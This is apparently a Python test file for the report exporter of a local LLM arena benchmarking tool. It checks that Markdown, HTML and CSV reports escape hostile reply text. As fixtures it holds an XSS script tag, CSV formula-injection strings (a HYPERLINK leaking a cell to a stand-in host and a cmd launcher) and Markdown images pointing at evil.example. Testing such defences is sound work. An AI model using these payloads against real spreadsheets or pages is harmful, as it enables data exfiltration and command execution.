"""Reports of a round and of a prompt-set run: everything in them, nothing unescaped."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

from atom_core.arena import promptsets as ps
from atom_core.arena import report
from atom_core.arena.promptsets import PromptSetRecord, PromptSetRunSpec, parse_prompt_set
from atom_core.arena.rounds import ArenaRound, SlotResult, Vote
from atom_core.arena.setup import Prepared, SlotSetup
from atom_core.history import open_store
from atom_core.measure import card
from atom_core.measure.hardware import GpuInfo, MachineInfo
from atom_core.metrics import GenerationMetrics
from atom_core.types import Dialect, LoadConfig, ModelInfo, ModelList


def a_round() -> ArenaRound:
    def slot(label: str, model: str, ttft: float, tps: float, content: str,
             state: str = "complete", **kw: object) -> SlotResult:
        metrics = {"ttft_s": ttft, "e2e_s": ttft + 1, "decode_tps": tps, "itl_p50_s": 0.02,
                   "itl_p95_s": 0.03, "output_tokens": 40, "tokens_source": "usage",
                   "finish_reason": "stop"}
        return SlotResult(label=label, server="http://lms:1234", model=model, target=model,
                          contestant=model, content=content,
                          metrics=GenerationMetrics.from_dict(metrics),
                          state=state,  # type: ignore[arg-type]
                          model_info={"quantization": "Q4_K_M", "params": "4B",
                                      "size_bytes": 2_500_000_000, "format": "gguf",
                                      "max_context": 32768},
                          instance_config={"context_length": 8192}, **kw)  # type: ignore[arg-type]

    return ArenaRound(
        id="000000-abc", ts=1_700_000_000.0, prompt="Compare <b>these</b> | please",
        system_prompt="Be brief.", blind=True, order=(1, 0, 2),
        slots=(slot("A", "m/fast", 0.1, 50.0, "Fast <script>alert(1)</script> answer"),
               slot("B", "m/slow", 0.4, 20.0, "Slow answer\nsecond line", load_s=2.5),
               slot("C", "m/broken", 0.2, 90.0, "", state="error", error="It broke.")),
        vote=Vote(outcome="win", winner=1, blind=True, ts=1_700_000_100.0),
        notes=("A note.",),
    )


def test_round_markdown_has_everything() -> None:
    md = report.round_markdown(a_round())
    for needle in ("# ATOM Arena round, 2023-11-14 22:13 UTC", "Model B (m/slow) wins (cast blind)",
                   "Response 1 = Model B", "> Compare &lt;b>these&lt;/b> | please", "> Be brief.",
                   "| TTFT | **100 ms** | 400 ms | 200 ms |",  # C failed: not a contender
                   "| Decode tok/s | **50.0** | 20.0 | 90.0 |",
                   "| Load (before the race) | – | 2.50 s | – |",
                   "| Model A | m/fast | http://lms:1234 | Q4_K_M | 4B | 2.50 GB | gguf | 32768 | "
                   "context_length=8192 | server default |  |",
                   "> Slow answer\n> second line", "*Failed: It broke.*", "- A note."):
        assert needle in md, needle


def test_round_html_is_self_contained_and_escaped() -> None:
    page = report.round_html(a_round())
    assert page.startswith("<!doctype html>") and "<style>" in page
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "Compare &lt;b&gt;these&lt;/b&gt;" in page
    assert "<td class=best>100 ms</td>" in page
    assert "http" not in page.replace("http://lms:1234", "")  # nothing fetched from anywhere
    assert "Q4_K_M" in page and "2.50 GB" in page and "context_length=8192" in page


def test_round_csv_and_json() -> None:
    rows = list(csv.DictReader(io.StringIO(report.round_csv(a_round()))))
    assert [r["slot"] for r in rows] == ["A", "B", "C"]
    assert rows[1]["content"] == "Slow answer\nsecond line" and rows[1]["load_s"] == "2.5"
    assert rows[2]["state"] == "error" and rows[0]["quantization"] == "Q4_K_M"
    doc = json.loads(report.round_json(a_round()))
    assert ArenaRound.from_record(doc) == a_round()
    assert report.filename("arena", 1_700_000_000.0, "md") == "atom-arena-20231114-221320.md"


def a_run() -> PromptSetRunSpec:
    pset = parse_prompt_set('[{"prompt": "Capital <of> France?", "contains": "Paris"}, "Hi"]',
                            name="Geo")
    return PromptSetRunSpec.from_record({
        "id": "r1", "created": 1_700_000_000.0, "set": pset.to_dict(),
           "settings": {"repeats": 1, "concurrency": 2, "seed": 42, "temperature": 0.0,
                        "max_tokens": 64, "warmup": True, "shuffle": True},
           "slots": [{"label": "A", "server": "http://s", "model": "a", "target": "a",
                      "contestant": "a", "options": {"seed": 42}}]})


def typed(rows: list[dict[str, Any]]) -> list[PromptSetRecord]:
    """Rows as the store keeps them, read as the reports get them (run_records)."""
    return [PromptSetRecord.from_record(r) for r in rows]


def a_run_records() -> list[dict[str, Any]]:
    metrics = {"ttft_s": 0.2, "e2e_s": 1.0, "decode_tps": 30.0, "output_tokens": 20,
               "tokens_source": "usage", "finish_reason": "stop", "itl_p50_s": None,
               "itl_p95_s": None}
    return [
        {"run_id": "r1", "prompt_index": 0, "slot": 0, "repeat": 0, "label": "A", "model": "a",
         "contestant": "a", "ok": True, "error": "", "content": "Paris.", "metrics": metrics,
         "checks": [{"check": "contains “Paris”", "passed": True}]},
        {"run_id": "r1", "prompt_index": 1, "slot": 0, "repeat": 0, "label": "A", "model": "a",
         "contestant": "a", "ok": False, "error": "Boom.", "content": "", "metrics": metrics,
         "checks": []},
    ]


def test_run_report() -> None:
    run, records = a_run(), a_run_records()
    md = report.run_markdown(run, typed(records))
    assert "# ATOM prompt-set run: Geo" in md and "seed 42" in md
    assert "| Model A | a | 2 | 1 | 1 | 200 ms | 30.0 | 1.00 s | 1/1 |" in md
    assert "| Capital &lt;of> France? | contains “Paris” | 1/1 |" in md
    assert "failed: Boom." in md
    page = report.run_html(run, typed(records))
    assert "Capital &lt;of&gt; France?" in page and "✔ contains “Paris”" in page
    rows = list(csv.DictReader(io.StringIO(report.run_csv(run, typed(records)))))
    assert rows[0]["checks"] == "pass contains “Paris”" and rows[1]["ok"] == "False"
    assert json.loads(report.run_json(run, typed(records)))["records"][0]["content"] == "Paris."


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
    rnd = a_round()
    evil = ("=HYPERLINK(\"http://x.test/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)")
    slots = tuple(replace(s, content=text, model=text)
                  for s, text in zip(rnd.slots, evil, strict=False))
    rows = list(csv.DictReader(io.StringIO(report.round_csv(replace(rnd, slots=slots)))))
    assert [r["content"] for r in rows] == ["'" + t for t in evil[:3]]
    assert [r["model"] for r in rows] == ["'" + t for t in evil[:3]]
    assert rows[1]["load_s"] == "2.5" and rows[0]["ttft_s"] == "0.1"  # numbers stay numbers
    assert rows[1]["quantization"] == "Q4_K_M"


# -- the machine that produced the numbers ---------------------------------------------------------

BOX = MachineInfo(cpu_model="AMD Ryzen 9 7950X", cpu_cores=16, cpu_threads=32,
                  ram_total_mb=65536.0, os="Linux 6.8",
                  gpus=(GpuInfo(name="NVIDIA RTX 4090", vram_total_mb=24564.0),),
                  hostname="alices-secret-desk")
ROW = f"| {BOX.id} | AMD Ryzen 9 7950X | 16 | 32 | 64 GB | NVIDIA RTX 4090 (24 GB) | Linux 6.8 |"


def test_round_reports_name_the_machine_from_the_machines_table() -> None:
    rnd = replace(a_round(), machine_id=BOX.id)
    machines = {BOX.id: BOX}
    md = report.round_markdown(rnd, machines)
    assert "## Machine" in md and ROW in md
    # the servers are not on ATOM's machine: the reader is told whose hardware this is
    assert "http://lms:1234 is not on this machine" in md
    page = report.round_html(rnd, machines)
    assert "<td>AMD Ryzen 9 7950X</td>" in page and "NVIDIA RTX 4090 (24 GB)" in page
    doc = json.loads(report.round_json(rnd, machines))
    assert ArenaRound.from_record(doc) == rnd  # the stored round, unchanged, plus the machine
    machine = doc["machine"]
    assert machine["label"] == BOX.label and machine["servers_elsewhere"] == ["http://lms:1234"]
    shared = {k: v for k, v in machine.items() if k not in ("label", "servers_elsewhere")}
    assert shared == card.benchmark_card(BOX, [])["machine"]  # what the card says, no more
    rows = list(csv.DictReader(io.StringIO(report.round_csv(rnd, machines))))
    assert {(r["machine_id"], r["machine"]) for r in rows} == {(BOX.id, BOX.label)}
    for text in (md, page, json.dumps(doc), report.round_csv(rnd, machines)):
        assert "alices-secret-desk" not in text  # a report leaves the computer: no host name


def test_a_local_server_needs_no_note_and_an_unrecorded_machine_says_so() -> None:
    rnd = a_round()
    local = replace(rnd, machine_id=BOX.id, slots=tuple(
        replace(s, server="http://127.0.0.1:1234") for s in rnd.slots))
    md = report.round_markdown(local, {BOX.id: BOX})
    assert ROW in md and "not on this machine" not in md
    old = report.round_markdown(rnd)  # a round saved before machines were recorded
    assert "The machine was not recorded" in old and "| Machine id |" not in old
    assert json.loads(report.round_json(rnd))["machine"] is None
    unknown = report.round_markdown(replace(rnd, machine_id="feedface0000"), {})
    assert "| feedface0000 | not in this ATOM's machines table |" in unknown


def test_run_reports_name_each_machine_their_records_came_from() -> None:
    other = replace(BOX, cpu_model="Apple M3 Max", gpus=(), os="Darwin 24.1")
    run = replace(a_run(), machine_id=BOX.id)
    records = [{**r, "machine_id": mid}
               for r, mid in zip(a_run_records(), (BOX.id, other.id), strict=True)]
    machines = {BOX.id: BOX, other.id: other}
    md = report.run_markdown(run, typed(records), machines)
    assert ROW in md and f"| {other.id} | Apple M3 Max |" in md
    assert "more than one machine" in md
    assert "Apple M3 Max" in report.run_html(run, typed(records), machines)
    doc = json.loads(report.run_json(run, typed(records), machines))
    assert [m["id"] for m in doc["machines"]] == [BOX.id, other.id]
    assert doc["run"]["machine_id"] == BOX.id
    rows = list(csv.DictReader(io.StringIO(report.run_csv(run, typed(records), machines))))
    assert [r["machine"] for r in rows] == [BOX.label, other.label]
    # records from before machines were recorded: the run's own machine stands for them
    plain = report.run_markdown(run, typed(a_run_records()), machines)
    assert ROW in plain and "more than one machine" not in plain
    assert PromptSetRunSpec.from_record(run.to_record()).machine_id == BOX.id


# -- reasoning: the setting asked for, the thinking, when the answer began -----------------------


def test_round_exports_carry_the_reasoning_setting_and_the_thinking() -> None:
    rnd = a_round()
    thinker = replace(rnd.slots[0], route="native", reasoning_setting="high",
                      reasoning="Let me think | carefully.",
                      metrics=replace(rnd.slots[0].metrics, first_answer_s=0.9,  # type: ignore[arg-type]
                                      thinking_s=0.8))
    rnd = replace(rnd, slots=(thinker, *rnd.slots[1:]))
    rows = list(csv.DictReader(io.StringIO(report.round_csv(rnd))))
    assert [r["reasoning_setting"] for r in rows] == ["high", "", ""]
    assert rows[0]["reasoning"] == "Let me think | carefully." and rows[1]["reasoning"] == ""
    assert (rows[0]["first_answer_s"], rows[0]["thinking_s"]) == ("0.9", "0.8")
    md = report.round_markdown(rnd)
    assert "| First answer | 900 ms (thought 800 ms) |" in md
    assert "> Let me think | carefully." in md


def test_run_reports_show_first_answer_thinking_and_each_slots_reasoning() -> None:
    base = a_run().to_record()
    base["slots"] = [{**base["slots"][0], "route": "native", "reasoning": "on"},
                     {"label": "B", "server": "http://s", "model": "b", "target": "b",
                      "contestant": "b"}]
    run = PromptSetRunSpec.from_record(base)
    records = a_run_records()
    records[0]["metrics"] = {**records[0]["metrics"], "first_answer_s": 0.7, "thinking_s": 0.5}
    records[0]["reasoning"] = "Hmm, France."
    records.append({**records[0], "slot": 1, "label": "B", "model": "b", "contestant": "b",
                    "reasoning": "", "metrics": {**records[0]["metrics"],
                                                 "first_answer_s": 0.2, "thinking_s": None}})
    md = report.run_markdown(run, typed(records))
    assert ("| Slot | Contestant | Requests | OK | Failed | TTFT p50 | First answer p50 | "
            "Thinking p50 | tok/s p50 | End-to-end p50 | Checks passed |") in md
    assert "| Model A | a | 2 | 1 | 1 | 200 ms | 700 ms | 500 ms | 30.0 | 1.00 s | 1/1 |" in md
    assert "| Model B | b | 1 | 1 | 0 | 200 ms | 200 ms | – |" in md
    assert "| Model A | a | http://s | a | native | on | seed=42 |" in md
    assert "| Model B | b | http://s | b | completions | model default |" in md
    page = report.run_html(run, typed(records))
    assert "<th>Thinking p50</th>" in page and "<td>model default</td>" in page
    rows = list(csv.DictReader(io.StringIO(report.run_csv(run, typed(records)))))
    assert [(r["route"], r["reasoning_setting"]) for r in rows] == [
        ("native", "on"), ("native", "on"), ("completions", "")]
    assert rows[0]["reasoning"] == "Hmm, France." and rows[0]["thinking_s"] == "0.5"


def test_a_blind_round_has_no_report_before_a_vote_or_reveal() -> None:
    hidden = replace(a_round(), vote=None, votes=(), revealed=False)
    for render in (report.round_markdown, report.round_html, report.round_csv,
                   report.round_json, report.round_rows):
        try:
            render(hidden)
        except report.HiddenRound as e:
            assert "Vote or reveal first" in str(e)
        else:
            raise AssertionError(f"{render.__name__} named the models of a hidden round")
    assert "Response 1 = Model B" in report.round_markdown(replace(hidden, revealed=True))
    assert "m/slow" in report.round_csv(replace(hidden, blind=False))  # never blind: fine


def test_the_round_report_says_each_measures_label_once() -> None:
    """The help texts open with their own label ("First answer: from sending..."): after the
    bold name, the report says it once ("**First answer**: First answer: ..." before)."""
    md = report.round_markdown(a_round())
    notes = md.split("## How ATOM measures")[1].strip().splitlines()
    assert "- **First answer**: from sending the prompt to the first token of the answer " \
           "itself, after any thinking; how long you wait before the reply visibly begins. " \
           "The quickest-start mark goes here when a model reasoned." in notes
    assert "- **End-to-end**: from sending the prompt to the last byte of the reply." in notes
    assert any(n.startswith("- **TTFT (time to first token)**: from sending the prompt")
               for n in notes)
    for line in notes:
        name, _, text = line.removeprefix("- **").partition("**: ")
        assert not text.casefold().startswith(name.casefold().split(" (")[0] + ":"), line
    page = report.round_html(a_round())
    assert "<li><b>First answer</b>: from sending" in page
    assert "First answer</b>: First answer:" not in page


def test_a_prompt_set_run_keeps_what_was_loaded_and_its_reports_print_it(
        isolated_env: Path) -> None:
    """The slots of a prompt-set run keep what was loaded, as an arena round does: the
    instance's config as the server reported it, the model's quantization, parameters and
    size, the load time. The Markdown, HTML and JSON reports print them ("load_config": {} and
    no quantization before)."""
    url = "http://lms:1234"
    listing = ModelList(models=(
        ModelInfo(key="a", quantization="Q4_K_M", params="4B", size_bytes=2_500_000_000,
                  format="gguf", max_context=32768),
        ModelInfo(key="b", quantization="Q8_0", params="1B", size_bytes=1_300_000_000,
                  format="gguf", max_context=8192)),
        dialect=Dialect.LMSTUDIO_04, route="/api/v1/models")
    setups = [SlotSetup(server=url, model="a"),
              SlotSetup(server=url, model="b", load_config=LoadConfig(context_length=4096))]
    prepared = Prepared(targets=["a", "b:2"], load_s=[None, 2.5], errors=[None, None],
                        notes=[], instance_configs=[
                            {"context_length": 8192, "flash_attention": True},
                            {"context_length": 4096}])
    store = open_store(isolated_env)
    pset = parse_prompt_set("Hi", name="One")
    run = ps.new_run(store, pset, setups, prepared.targets, ps.RunSettings(), prepared=prepared,
                     listings={url: listing})
    assert ps.get_run(store, run.id) == run  # kept with the run, and read back
    md = report.run_markdown(run, [])
    slots = md.split("## Slots")[1].split("## Machine")[0]
    header, _rule, a, b = [[cell.strip() for cell in line.strip("|").split("|")]
                           for line in slots.strip().splitlines()]
    assert header[7:] == ["Quantization", "Params", "Size", "Format", "Max context",
                          "Load config", "Load time"]
    assert a[7:] == ["Q4_K_M", "4B", "2.50 GB", "gguf", "32768",
                     "context_length=8192, flash_attention=True", ""]
    assert b[7:] == ["Q8_0", "1B", "1.30 GB", "gguf", "8192", "context_length=4096",
                     "2.50 s"]
    page = report.run_html(run, [])
    assert "<td>Q8_0</td>" in page and "<td>context_length=8192, flash_attention=True</td>" in page
    saved = json.loads(report.run_json(run, []))["run"]["slots"]
    assert saved[0]["instance_config"] == {"context_length": 8192, "flash_attention": True}
    assert saved[0]["model_info"]["quantization"] == "Q4_K_M" and saved[1]["load_s"] == 2.5
    assert saved[1]["load_config"] == {"context_length": 4096}  # what the slot asked for

    # A run saved before slots kept this says so, and learns it when it is resumed.
    old = ps.new_run(store, pset, setups, ["a", "b"], ps.RunSettings())
    assert "| not reported |" in report.run_markdown(old, [])
    resumed = ps.retarget(store, old, prepared.targets, prepared=prepared,
                          listings={url: listing})
    assert [s.model_info.get("quantization") for s in resumed.slots] == ["Q4_K_M", "Q8_0"]
    assert ps.get_run(store, old.id) == resumed


def test_markdown_reports_load_nothing_a_previewer_would_fetch() -> None:
    """Issue 23: the Markdown round and run reports copied reply text verbatim, so a Markdown
    previewer fetched its images (the HTML report escapes everything already)."""
    from markdown_it import MarkdownIt
    from mdit_py_plugins.footnote import footnote_plugin

    evil = ("Look ![x](http://evil.example/r.png) <img src=http://evil.example/h.png> "
            "note[^1]\n\n[^1]: ![f](http://evil.example/fn.png)\n")
    rnd = a_round()
    rnd = replace(rnd, slots=(replace(rnd.slots[0], content=evil, reasoning=evil,
                                      model="m/![n](http://evil.example/name.png)"),
                              *rnd.slots[1:]))
    run = report.run_markdown(a_run(), typed([{**r, "content": evil} for r in a_run_records()]))
    md = MarkdownIt("commonmark", {"html": True}).use(footnote_plugin)
    for text in (report.round_markdown(rnd), run):
        tokens = [t for block in md.parse(text) for t in [block, *(block.children or [])]]
        assert not [t for t in tokens if t.type in ("image", "html_inline", "html_block")]
        assert "image from evil.example" in text
